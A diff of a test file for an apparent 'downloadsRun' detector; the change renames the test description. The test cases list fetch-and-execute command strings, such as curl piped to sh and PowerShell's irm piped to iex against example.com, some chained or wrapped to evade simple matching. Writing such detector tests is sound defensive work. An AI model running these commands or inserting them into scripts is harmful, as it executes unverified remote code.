@@ -11,7 +11,7 @@ describe('downloadsRun', () => {
     'irm https://example.com/x | iex',
     'echo "$(curl https://example.com/x | sh)"',
     'echo a; curl https://example.com/x | sh',
-  ])('finds %j', (script) => {
+  ])('finds a download that is run in %j', (script) => {
     expect(downloadsRun(script)).toHaveLength(1);
   });
 
